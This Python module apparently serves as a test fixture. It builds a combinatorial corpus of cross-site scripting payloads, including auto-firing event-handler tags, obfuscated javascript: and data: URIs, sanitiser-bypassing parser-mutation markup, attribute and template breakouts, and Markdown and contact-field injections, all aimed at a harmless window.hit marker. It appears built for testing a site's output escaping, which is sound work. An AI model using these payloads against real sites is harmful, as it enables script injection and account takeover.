"""Attacks on whatever shows people's words, built from parts: tags by handlers by encodings.

Each payload tries to run HIT. None is copied from a list of somebody else; what the lists have in
common (tags that run something by themselves, addresses that are programs, ways out of attributes
and of scripts, markup that a cleaner and a browser read differently) is written as combinators.
"""

from collections.abc import Callable, Iterator
from itertools import product

HIT = "window.hit=1"

# Elements that run something without anybody touching them, and the attribute that does.
_BY_THEMSELVES = [
    ("img src=x", "onerror"), ("img src=/static/favicon.svg", "onload"), ("image src=x", "onerror"),
    ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe src=about:blank", "onload"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"),
    ("details open", "ontoggle"), ("marquee", "onstart"), ("object data=x", "onerror"), ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("p tabindex=0 autofocus", "onfocus"),
    ("video autoplay><source src=x", "onerror"), ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"), ("math><mtext><img src=x", "onerror"),
    ("x contenteditable autofocus", "onfocus"), ("div style=animation:x", "onanimationstart"),
    ("div style=transition:all", "ontransitionend"), ("a href=# autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"), ("frameset", "onload"),
]  # fmt: skip

# How a handler can be written.
_WRITTEN: list[Callable[[str, str], str]] = [
    lambda tag, on: f"<{tag} {on}={HIT}>",
    lambda tag, on: f'<{tag} {on}="{HIT}">',
    lambda tag, on: f"<{tag.replace(' ', '/')}/{on}='{HIT}'/>",
    lambda tag, on: f"<{tag.upper()} {on.upper()} = {HIT} ",
    lambda tag, on: f"<{tag}\n{on}\t=\f{HIT}\r>",
    lambda tag, on: f"<{tag} {on}={_as_entities(HIT)}>",
    lambda tag, on: f"<{tag} {on}=eval(atob('d2luZG93LmhpdD0x'))//",
    lambda tag, on: f"<<{tag} {on}={HIT}>>",
    lambda tag, on: f"<{tag} x='>' {on}={HIT}>",
    lambda tag, on: f"&lt;{tag} {on}={HIT}&gt;",
]

# Addresses that are programs, and what hides that they are.
_PROGRAMS = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"  javascript:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}",
    f"java\0script:{HIT}", f"\x01javascript:{HIT}", f"javascript&colon;{HIT}", f"&#106;avascript:{HIT}",
    f"&#x6A&#x61vascript:{HIT}", f"javascript&#58;{HIT}", f"javascript&#0000058{HIT}", f"java&Tab;script:{HIT}",
    f"java&NewLine;script&colon;{HIT}", f"javascript\u200b:{HIT}", f"\u202ejavascript:{HIT}",
    f"javascript:\u2028{HIT}", f"javascript://%0a{HIT}",
    f"javascript:/*--></title></style></textarea></script>*/{HIT}", f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={HIT}>", f"view-source:javascript:{HIT}", f"feed:javascript:{HIT}",
    f"jar:javascript:{HIT}", f"blob:javascript:{HIT}", f'http://x/"onmouseover="{HIT}', f"//javascript:{HIT}",
    f"https:javascript:{HIT}", f"javascript%3A{HIT}", f"%6Aavascript:{HIT}", f"ｊavascript:{HIT}", f"javascript：{HIT}",
    f"mailto:x@y.example?body=<script>{HIT}</script>", f"tel:<img src=x onerror={HIT}>", f'file:///x"onload={HIT}',
]  # fmt: skip

# Where an address can stand, as HTML and as Markdown.
_ADDRESSED: list[Callable[[str], str]] = [
    lambda to: f'<a href="{to}" autofocus onfocus=click()>x</a>',
    lambda to: f"<iframe src='{to}'></iframe>",
    lambda to: f'<form action="{to}"><input type=submit autofocus onfocus=form.submit()></form>',
    lambda to: f"<svg><a xlink:href='{to}'><text>x</text></a></svg>",
    lambda to: f"[x]({to})",
    lambda to: f"[x](<{to}>)",
    lambda to: f'[x](http://a.example "{to}" onmouseover={HIT})',
    lambda to: f"<{to}>",
    lambda to: f"![x]({to})",
    lambda to: f"[x][1]\n\n[1]: {to}",
]

# Markup that one parser reads so and another otherwise.
_MUTATING = [
    "<math><mtext><table><mglyph><style><img src=x onerror={hit}>",
    "<svg><p><style><a id='</style><img src=x onerror={hit}>'>",
    "<svg></p><style><a title='</style><img src onerror={hit}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>", "<xmp><p title='</xmp><img src=x onerror={hit}>'>",
    "<!--><img src=x onerror={hit}>-->", "<!--- --!><img src=x onerror={hit}>-->",
    "<!-- x --><img src=x onerror={hit}>", "<![CDATA[<img src=x onerror={hit}>]]>",
    "<svg><![CDATA[><img src=x onerror={hit}>]]></svg>", "<?xml version='1.0'?><img src=x onerror={hit}>",
    "<textarea></textarea><img src=x onerror={hit}>", "<title></title><img src=x onerror={hit}>",
    "<template><img src=x onerror={hit}></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={hit}>'>",
    "<listing>&lt;img src=x onerror={hit}&gt;</listing>", "<plaintext><img src=x onerror={hit}>",
    "<b><p><b><p><b><img src=x onerror={hit}>", "<table><td><a><img src=x onerror={hit}></table>",
    "<svg><desc><b><svg><img src=x onerror={hit}>",
    "<svg><foreignObject><img src=x onerror={hit}></foreignObject></svg>", "<math href='javascript:{hit}'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={hit}>", "<svg><script>{hit}</script></svg>",
    "<svg><script href='data:,{hit}'/></svg>", "<script>{hit}</script>", "<script/src=data:,{hit}></script>",
    "<script\n>{hit}</script\n>", "<scr<script>ipt>{hit}</scr</script>ipt>", "<SCRIPT>{hit}//", "<script>{hit}<!--",
    "</script><script>{hit}</script>", "</title><script>{hit}</script>", "</style><script>{hit}</script>",
    "</textarea><script>{hit}</script>", "</p></div></body><script>{hit}</script>",
    "<base href='javascript:{hit}//'>", "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<style>@import 'javascript:{hit}';</style>",
    "<div style='background:url(javascript:{hit})'>", "<div style='width:expression({hit})'>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<isindex action=javascript:{hit} type=image>", "<portal src='javascript:{hit}'>",
    "<dialog open onclose={hit}><form method=dialog><button autofocus>",
    "<button popovertarget=x autofocus>x</button><div popover id=x onbeforetoggle={hit}>x</div>",
    "<x onclick={hit} id=x>x</x><script>x.click()</script>", "<input onauxclick={hit}>",
    "<a ping=javascript:{hit}>x</a>",
]  # fmt: skip

# Ways out of where words are put.
_OUT_OF = [
    '"', "'", "`", '">', "'>", '"/>', "-->", "*/", "]]>", "</a>", "</span>", '" ', '\\"', "&quot;", "&#34;", "\u2028",
    "\u2029", "</script>", "</svg>", "\x00", "%22%3E", "\\u003e", "{{", "{%", "${", "#{", "<%=",
]  # fmt: skip
_THERE = ["onmouseover={hit} autofocus onfocus={hit} x=", "<img src=x onerror={hit}>", "<svg/onload={hit}>", "{hit}//"]

# What is ours alone: names in brackets, contact details, and the marks that we put between.
_OURS = [
    "[[<img src=x onerror={hit}>]]", "[[x]]<img src=x onerror={hit}>", "[[<script>{hit}</script>]]",
    '[[" onmouseover={hit} x="]]', 'http://testserver/listings/x"onmouseover={hit}', "[[[[<svg onload={hit}>]]]]",
    'http://testserver/listings/x?"><img src=x onerror={hit}>', 'http://testserver/questions/1-"onload={hit}',
    'jane@example.org"><img src=x onerror={hit}>', "jane<img src=x onerror={hit}>@example.org",
    "jane (at) <svg onload={hit}> (dot) org", '"<img src=x onerror={hit}>"@example.org',
    "jane@<script>{hit}</script>.org", "jane at example dot <img src=x onerror={hit}>",
    "+47 55 55<img src=x onerror={hit}> 55 55", "+47 <svg onload={hit}>", 'tel:+4755555555"onload={hit}',
    "mailto:jane@example.org?subject=<script>{hit}</script>", 'https://www.nhs.uk/"onmouseover={hit}',
    "https://www.nhs.uk/<img src=x onerror={hit}>", "https://www.nhs.uk/'><svg onload={hit}>",
    "[<img src=x onerror={hit}>](https://www.nhs.uk/)", '[x](https://www.nhs.uk/"onmouseover={hit})',
    "[x](https://www.nhs.uk/ '\"><svg onload={hit}>')", '[x](http://testserver/"onmouseover={hit})',
    '[x](/guides/"onmouseover={hit})', '[x](/\\evil.example"onload={hit})', 'insta: @jane"><img src=x onerror={hit}>',
    "\ue000<img src=x onerror={hit}>\ue001", "\U000f0000<svg onload={hit}>\U000f0001",
    "&#xF0000;<svg onload={hit}>&#xF0001;", '&#983040;"onload={hit}', "\ufdd0<img src=x onerror={hit}>",
    "\x00<svg onload={hit}>", "**<img src=x onerror={hit}>**", "*<svg*onload={hit}>*",
    "> <script>\n> {hit}\n> </script>", "- <img\n- src=x\n- onerror={hit}>", "1. <svg/onload={hit}>",
    "`<img src=x onerror={hit}>`", "```\n<script>{hit}</script>\n```", "    <script>{hit}</script>",
    "\\<img src=x onerror={hit}>", "&lt;img src=x onerror={hit}&gt;", "&amp;lt;script>{hit}&amp;lt;/script>",
    "<img src=x\u2028onerror={hit}>", "<img\u00a0src=x onerror={hit}>", "<im\u200bg src=x onerror={hit}>",
    "<ımg src=x onerror={hit}>", "＜img src=x onerror={hit}＞", "\u02c2script\u02c3{hit}\u02c2/script\u02c3",
    "<a\u3000href=javascript:{hit}>x</a>", "![<img src=x onerror={hit}>](x)", '![x](x"onerror={hit})',
    "[x]: javascript:{hit}\n\n[x]", "[x](javascript:{hit}", "[a](<javascript:{hit}>)<svg onload={hit}>",
    '[x](#"onload={hit})', '<http://a.example/"onload={hit}>', "<javascript:{hit}>",
    '<jane@example.org"onload={hit}>', "{{{{constructor.constructor('{hit}')()}}}}", "${{{hit}}}", "{{% {hit} %}}",
    "# <img src=x onerror={hit}>", "<img src=x onerror={hit}>\n===", "| <svg onload={hit}> |\n|-|",
    "---\n<script>{hit}</script>", "~~<svg onload={hit}>~~", "[^1]\n\n[^1]: <img src=x onerror={hit}>",
    ':smile"onload={hit}:', 'http://a.example/\u202e"onload={hit}',
]  # fmt: skip


def _as_entities(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


def _all() -> Iterator[str]:
    yield from (write(tag, on) for (tag, on), write in product(_BY_THEMSELVES, _WRITTEN))
    yield from (address(to) for to, address in product(_PROGRAMS, _ADDRESSED))
    yield from (one.format(hit=HIT) for one in [*_MUTATING, *_OURS])
    yield from (out + there.format(hit=HIT) for out, there in product(_OUT_OF, _THERE))
    yield from (f"{one.format(hit=HIT)} [[x]] jane@example.org" for one in _MUTATING)


PAYLOADS = list(dict.fromkeys(_all()))
